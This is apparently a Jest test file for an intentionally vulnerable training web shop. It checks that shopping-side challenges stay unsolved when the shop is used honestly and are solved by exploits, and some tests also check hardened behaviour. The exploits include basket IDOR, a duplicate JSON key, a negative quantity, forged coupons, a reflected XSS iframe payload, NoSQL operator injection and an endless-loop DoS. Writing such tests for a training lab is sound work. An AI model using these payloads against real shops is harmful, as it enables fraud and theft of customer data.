import { startTestShop, DEMO, type TestShop } from './helpers';
import { base64, INES, JONAS, shopper, VALID_ADDRESS, type Session } from './shop-helpers';
import { registerCustomer } from './account-helpers';
import { expectNotSolved, exploit, isFixedIn } from './challenges';
import { mintCoupon } from '../src/features/coupons/regular';
import { encodeLegacyCoupon } from '../src/features/coupons/legacy';

/**
 * Group C of the challenge catalogue, shopping side: basket, checkout, coupons, deluxe,
 * order tracking and the B2B interface. Each challenge is first used honestly (and must stay
 * unsolved), then solved the way a trainee would, through the public API.
 */

/** Pulp Mug: 9.99, plenty in stock (the 23rd seeded product). */
const PULP_MUG = 23;

async function freshShop(): Promise<TestShop> {
  return startTestShop();
}

/** A logged-in customer of the test's own, with an address and a card for checking out. */
async function customerWithCheckout(shop: TestShop) {
  const user = await registerCustomer(shop);
  const session = await shop.login(user.email, user.password);
  const me = shopper(shop, session);
  const addressId = await me.addAddress();
  const cardId = await me.addCard();
  return { user, session, me, addressId, cardId };
}

async function basketOf(shop: TestShop, session: Session, bid: number) {
  return shop.app.inject({ method: 'GET', url: `/rest/basket/${bid}`, headers: session.headers });
}

describe('View Basket (basketAccessChallenge)', () => {
  let shop: TestShop;
  beforeAll(async () => (shop = await freshShop()));
  afterAll(() => shop.close());

  it('honest: reading the own basket does not solve it', async () => {
    const demo = await shop.login(DEMO.email, DEMO.password);
    const response = await basketOf(shop, demo, demo.bid);
    expect(response.statusCode).toBe(200);
    await expectNotSolved(shop, 'basketAccessChallenge');
  });

  it("exploit: reading another customer's basket by its id solves it", async () => {
    const demo = await shop.login(DEMO.email, DEMO.password);
    const jonas = await shop.login(JONAS.email, JONAS.password);
    await shopper(shop, jonas).put(PULP_MUG, 2);
    await exploit(shop, 'basketAccessChallenge', async () => {
      const response = await basketOf(shop, demo, jonas.bid);
      expect(response.statusCode).toBe(200);
      expect(response.json().data.Products.map((product: { id: number }) => product.id)).toContain(PULP_MUG);
    });
  });

  it("still refuses changing the other basket's items", async () => {
    const demo = await shop.login(DEMO.email, DEMO.password);
    const jonas = await shop.login(JONAS.email, JONAS.password);
    const item = (await basketOf(shop, jonas, jonas.bid)).json().data.Products[0].BasketItem.id;
    expect((await shopper(shop, demo).call({ method: 'DELETE', url: `/api/BasketItems/${item}` })).statusCode).toBe(403);
    expect((await shopper(shop, demo).call({ method: 'PUT', url: `/api/BasketItems/${item}`, payload: { quantity: 5 } })).statusCode).toBe(403);
  });
});

describe('Manipulate Basket (basketManipulateChallenge)', () => {
  let shop: TestShop;
  let demo: Session;
  let jonas: Session;
  beforeAll(async () => {
    shop = await freshShop();
    demo = await shop.login(DEMO.email, DEMO.password);
    jonas = await shop.login(JONAS.email, JONAS.password);
  });
  afterAll(() => shop.close());

  const addRaw = (json: string) => shop.app.inject({ method: 'POST', url: '/api/BasketItems', payload: json, headers: { ...demo.headers, 'content-type': 'application/json' } });

  it("honest: adding to the own basket does not solve it, and another basket's id alone is refused", async () => {
    expect((await addRaw(JSON.stringify({ ProductId: PULP_MUG, BasketId: demo.bid, quantity: 1 }))).statusCode).toBe(200);
    expect((await addRaw(JSON.stringify({ ProductId: 2, BasketId: jonas.bid, quantity: 1 }))).statusCode).toBe(403);
    await expectNotSolved(shop, 'basketManipulateChallenge');
  });

  it("exploit: a second BasketId key puts the item into another customer's basket and solves it", async () => {
    await exploit(shop, 'basketManipulateChallenge', async () => {
      const response = await addRaw(`{"ProductId": 3, "BasketId": ${demo.bid}, "quantity": 1, "BasketId": ${jonas.bid}}`);
      expect(response.statusCode).toBe(200);
      expect(response.json().data.BasketId).toBe(jonas.bid);
    });
    const jonasProducts = (await basketOf(shop, jonas, jonas.bid)).json().data.Products.map((product: { id: number }) => product.id);
    if (isFixedIn(shop, 'basketManipulateChallenge')) expect(jonasProducts).not.toContain(3);
    else expect(jonasProducts).toContain(3);
  });

  it('still refuses a first BasketId that is not the own one', async () => {
    // Hardened, the basket checked is the one written to, the last (own) one, so the item lands there.
    const twice = await addRaw(`{"ProductId": 4, "BasketId": ${jonas.bid}, "quantity": 1, "BasketId": ${demo.bid}}`);
    if (isFixedIn(shop, 'basketManipulateChallenge')) expect(twice.json().data.BasketId).toBe(demo.bid);
    else expect(twice.statusCode).toBe(403);
    expect((await addRaw('{"ProductId": 4, "BasketId": 1, "quantity": 1')).statusCode).toBe(400);
  });
});

describe('Payback Time (negativeOrderChallenge)', () => {
  let shop: TestShop;
  beforeAll(async () => (shop = await freshShop()));
  afterAll(() => shop.close());

  it('honest: changing a quantity and checking out does not solve it', async () => {
    const { session, me, addressId, cardId } = await customerWithCheckout(shop);
    await me.put(PULP_MUG, 1);
    const item = (await basketOf(shop, session, session.bid)).json().data.Products[0].BasketItem.id;
    expect((await me.call({ method: 'PUT', url: `/api/BasketItems/${item}`, payload: { quantity: 2 } })).statusCode).toBe(200);
    const order = await me.checkout({ paymentId: cardId, addressId, deliveryMethodId: 3 });
    expect(order.statusCode).toBe(200);
    await expectNotSolved(shop, 'negativeOrderChallenge');
  });

  it('exploit: a negative quantity makes a negative total, paid into the wallet, and solves it', async () => {
    const ines = await shop.login(INES.email, INES.password);
    const me = shopper(shop, ines);
    const addressId = await me.addAddress();
    await me.put(PULP_MUG, 1);
    const item = (await basketOf(shop, ines, ines.bid)).json().data.Products[0].BasketItem.id;
    const before = await me.balance();
    await exploit(shop, 'negativeOrderChallenge', async () => {
      expect((await me.call({ method: 'PUT', url: `/api/BasketItems/${item}`, payload: { quantity: -10 } })).statusCode).toBe(200);
      const response = await me.checkout({ paymentId: 'wallet', addressId, deliveryMethodId: 3 });
      expect(response.statusCode).toBe(200);
      const order = (await me.call({ method: 'GET', url: `/rest/track-order/${response.json().orderConfirmation}` })).json().data[0];
      expect(order.totalPrice).toBeLessThan(0);
      expect(await me.balance()).toBeCloseTo(before - order.totalPrice, 2);
    });
  });

  it('still refuses new items with a quantity below one', async () => {
    const demo = await shop.login(DEMO.email, DEMO.password);
    const response = await shopper(shop, demo).call({ method: 'POST', url: '/api/BasketItems', payload: { ProductId: 5, BasketId: demo.bid, quantity: -3 } });
    expect(response.statusCode).toBe(400);
  });
});

describe('Expired Coupon (manipulateClockChallenge) and Forged Coupon (forgedCouponChallenge)', () => {
  let shop: TestShop;
  beforeAll(async () => (shop = await freshShop()));
  afterAll(() => shop.close());

  async function orderWith(options: { coupon?: string; couponData?: string }) {
    const { me, session, addressId, cardId } = await customerWithCheckout(shop);
    await me.put(PULP_MUG, 1);
    if (options.coupon) {
      const applied = await me.call({ method: 'PUT', url: `/rest/basket/${session.bid}/coupon/${options.coupon}` });
      if (applied.statusCode !== 200) return { applied };
    }
    const response = await me.checkout({ paymentId: cardId, addressId, deliveryMethodId: 3 }, options.couponData);
    expect(response.statusCode).toBe(200);
    return { order: (await me.call({ method: 'GET', url: `/rest/track-order/${response.json().orderConfirmation}` })).json().data[0] };
  }

  it('honest: a campaign coupon with the real date and a regular coupon solve neither', async () => {
    const today = new Date().toISOString().slice(0, 10);
    expect((await orderWith({ couponData: base64(`WMNSDY2019-${today}`) })).order.promotionalAmount).toBe(0);
    const regular = mintCoupon(shop.ctx.config.coupons.secret, 50, { year: 2099, month: 12 });
    expect((await orderWith({ coupon: regular })).order.promotionalAmount).toBe(5);
    await expectNotSolved(shop, 'manipulateClockChallenge');
    await expectNotSolved(shop, 'forgedCouponChallenge');
  });

  it('exploit: an expired campaign coupon sent with its own day as the client date solves Expired Coupon', async () => {
    await exploit(shop, 'manipulateClockChallenge', async () => {
      const { order } = await orderWith({ couponData: base64('WMNSDY2019-2019-03-08') });
      expect(order.promotionalAmount).toBe(7.49);
    });
    await expectNotSolved(shop, 'forgedCouponChallenge');
  });

  it('honest: a genuine code of the first coupon series is honoured and does not solve Forged Coupon', async () => {
    const genuine = encodeLegacyCoupon(10, { year: 2099, month: 12 });
    expect((await orderWith({ coupon: genuine })).order.promotionalAmount).toBe(1);
    await expectNotSolved(shop, 'forgedCouponChallenge');
  });

  it("the clue: a seeded review quotes an expired code of that series, which the shop refuses", async () => {
    const products = (await shop.app.inject({ method: 'GET', url: '/api/Products' })).json().data as { id: number; name: string }[];
    const tshirt = products.find((product) => product.name === 'Pulp T-Shirt')!;
    const reviews = (await shop.app.inject({ method: 'GET', url: `/rest/products/${tshirt.id}/reviews` })).json().data as { message: string }[];
    const code = /code (\w{10})/.exec(reviews.map((review) => review.message).join(' '))?.[1];
    expect(code).toBeDefined();
    expect(Buffer.from(code!, 'base64url').toString()).toBe('JUN2415');
    const { applied } = await orderWith({ coupon: code });
    expect(applied?.statusCode).toBe(404);
  });

  it('exploit: a self-made code of that series for 90% off, used at checkout, solves Forged Coupon', async () => {
    const forged = Buffer.from('DEC9990').toString('base64url');
    await exploit(shop, 'forgedCouponChallenge', async () => {
      const { order } = await orderWith({ coupon: forged });
      expect(order.promotionalAmount).toBe(8.99);
    });
  });
});

describe('Deluxe Fraud (freeDeluxeChallenge)', () => {
  let shop: TestShop;
  beforeAll(async () => (shop = await freshShop()));
  afterAll(() => shop.close());

  const upgrade = (session: Session, payload: Record<string, unknown>) => shopper(shop, session).call({ method: 'POST', url: '/rest/deluxe-membership', payload });
  const role = (token: string) => JSON.parse(Buffer.from(token.split('.')[1], 'base64url').toString()).data.role;

  it('honest: paying by wallet does not solve it', async () => {
    const demo = await shop.login(DEMO.email, DEMO.password);
    const response = await upgrade(demo, { paymentMode: 'wallet' });
    expect(response.statusCode).toBe(200);
    expect(await shopper(shop, demo).balance()).toBe(1);
    await expectNotSolved(shop, 'freeDeluxeChallenge');
  });

  it('exploit: a payment mode the shop does not know upgrades without paying and solves it', async () => {
    const ines = await shop.login(INES.email, INES.password);
    await exploit(shop, 'freeDeluxeChallenge', async () => {
      const response = await upgrade(ines, { paymentMode: 'voucher' });
      expect(response.statusCode).toBe(200);
      expect(role(response.json().data.token)).toBe('deluxe');
    });
    expect(await shopper(shop, ines).balance()).toBe(0);
  });

  it('still refuses a card that is not the own one', async () => {
    const jonas = await shop.login(JONAS.email, JONAS.password);
    expect((await upgrade(jonas, { paymentMode: 'card', paymentId: 1 })).statusCode).toBe(403);
  });
});

describe('Reflected XSS (reflectedXssChallenge) and NoSQL Exfiltration (noSqlOrdersChallenge)', () => {
  let shop: TestShop;
  let demo: Session;
  let jonas: Session;
  const demoOrders: string[] = [];
  const payload = '<iframe src="javascript:alert(`xss`)">';
  const track = (session: Session | null, id: string) =>
    shop.app.inject({ method: 'GET', url: `/rest/track-order/${encodeURIComponent(id)}`, headers: session?.headers ?? {} });

  beforeAll(async () => {
    shop = await freshShop();
    demo = await shop.login(DEMO.email, DEMO.password);
    jonas = await shop.login(JONAS.email, JONAS.password);
    const me = shopper(shop, demo);
    const addressId = (await me.call({ method: 'GET', url: '/api/Addresss' })).json().data[0].id;
    const cardId = (await me.call({ method: 'GET', url: '/api/Cards' })).json().data[0].id;
    for (const product of [PULP_MUG, 3]) {
      await me.put(product, 1);
      demoOrders.push((await me.checkout({ paymentId: cardId, addressId, deliveryMethodId: 3 })).json().orderConfirmation);
    }
  });
  afterAll(() => shop.close());

  it('honest: tracking the own order, or a mistyped id, solves neither', async () => {
    expect((await track(demo, demoOrders[0])).json().data[0].orderId).toBe(demoOrders[0]);
    expect((await track(demo, '<b>x</b>')).statusCode).toBe(400);
    expect((await track(jonas, demoOrders[0])).statusCode).toBe(403);
    await expectNotSolved(shop, 'reflectedXssChallenge');
    await expectNotSolved(shop, 'noSqlOrdersChallenge');
  });

  it('the API alone reflects nothing: the payload is refused as no order id, and only the page that renders it as markup reports it (challenges/client.test.ts)', async () => {
    const response = await track(demo, payload);
    expect(response.statusCode).toBe(400);
    expect(response.body).not.toContain('<iframe');
    await expectNotSolved(shop, 'reflectedXssChallenge');
  });

  it('honest: a JSON id that matches only the own orders does not solve NoSQL Exfiltration', async () => {
    const response = await track(demo, JSON.stringify({ $in: demoOrders }));
    // Hardened, an order id is plain text: JSON is no order id at all.
    if (isFixedIn(shop, 'noSqlOrdersChallenge')) expect(response.statusCode).toBe(400);
    else expect(response.json().data).toHaveLength(2);
    await expectNotSolved(shop, 'noSqlOrdersChallenge');
  });

  it('still refuses operator ids that match only other customers, code-running operators and visitors', async () => {
    expect((await track(jonas, JSON.stringify({ $ne: '' }))).statusCode).toBe(isFixedIn(shop, 'noSqlOrdersChallenge') ? 400 : 403);
    expect((await track(jonas, JSON.stringify({ $where: 'true' }))).statusCode).toBe(400);
    expect((await track(jonas, JSON.stringify({ $regex: '.*' }))).statusCode).toBe(400);
    expect((await track(null, JSON.stringify({ $ne: '' }))).statusCode).toBe(401);
  });

  it("exploit: with an order of one's own, an operator id returns everybody's orders and solves it", async () => {
    const me = shopper(shop, jonas);
    const addressId = await me.addAddress(VALID_ADDRESS);
    const cardId = await me.addCard();
    await me.put(PULP_MUG, 1);
    expect((await me.checkout({ paymentId: cardId, addressId, deliveryMethodId: 3 })).statusCode).toBe(200);
    await exploit(shop, 'noSqlOrdersChallenge', async () => {
      const response = await track(jonas, JSON.stringify({ $ne: '' }));
      expect(response.statusCode).toBe(200);
      const seen = response.json().data as { orderId: string; email: string }[];
      expect(seen.map((order) => order.orderId)).toEqual(expect.arrayContaining(demoOrders));
      expect(seen.some((order) => order.email === DEMO.email)).toBe(true);
    });
  });
});

describe('Blocked RCE DoS (rceChallenge)', () => {
  let shop: TestShop;
  let demo: Session;
  beforeAll(async () => {
    shop = await freshShop();
    demo = await shop.login(DEMO.email, DEMO.password);
  });
  afterAll(() => shop.close());

  const order = (orderLinesData: string, session: Session | null = demo) =>
    shop.app.inject({ method: 'POST', url: '/b2b/v2/orders', payload: { cid: 'JS0815DE', orderLinesData }, headers: session?.headers ?? {} });

  it('honest: a JSON order of a partner is confirmed and does not solve it', async () => {
    const response = await order(JSON.stringify([{ productId: 1, quantity: 500, customerReference: 'PO0000001' }]));
    expect(response.statusCode).toBe(200);
    expect(response.json().data).toEqual(expect.objectContaining({ cid: 'JS0815DE', lines: 1, orderNo: expect.stringMatching(/^[0-9a-f]{16}$/) }));
    expect((await order(JSON.stringify([{ productId: 99999, quantity: 1 }]))).statusCode).toBe(400);
    expect((await order('[]')).statusCode).toBe(400);
    expect((await order('[{"productId":1}]', null)).statusCode).toBe(401);
    await expectNotSolved(shop, 'rceChallenge');
  });

  it('honest: expressions that end are refused without being run, and do not solve it', async () => {
    for (const code of ['1 + 1', 'while (x < 3) { x++ }', 'for (;;) { break }', 'while (true) { throw new Error("stop") }', 'function (']) {
      expect((await order(code)).statusCode).toBe(400);
    }
    await expectNotSolved(shop, 'rceChallenge');
  });

  it('exploit: an endless loop gets the sandbox timeout answer and solves it, without running anything', async () => {
    await exploit(shop, 'rceChallenge', async () => {
      const response = await order('(function dos() { globalThis.pulpWasHere = true; while (true); })()');
      expect(response.statusCode).toBe(503);
      expect(response.json().error).toMatch(/Sandbox timeout/);
    });
    expect((globalThis as { pulpWasHere?: boolean }).pulpWasHere).toBeUndefined();
  });

  it('recognises other endless loops as well (hardened: refuses them, as anything but JSON)', async () => {
    for (const code of ['for (;;) {}', 'do { a = 1 } while (1)', 'while (!0) ;']) {
      const response = await order(code);
      if (isFixedIn(shop, 'rceChallenge')) {
        expect(response.statusCode).toBe(400);
        expect(response.json().error).toBe('orderLinesData must be JSON: a list of 1 to 50 order lines {productId, quantity, customerReference}.');
      } else expect(response.statusCode).toBe(503);
    }
  });
});
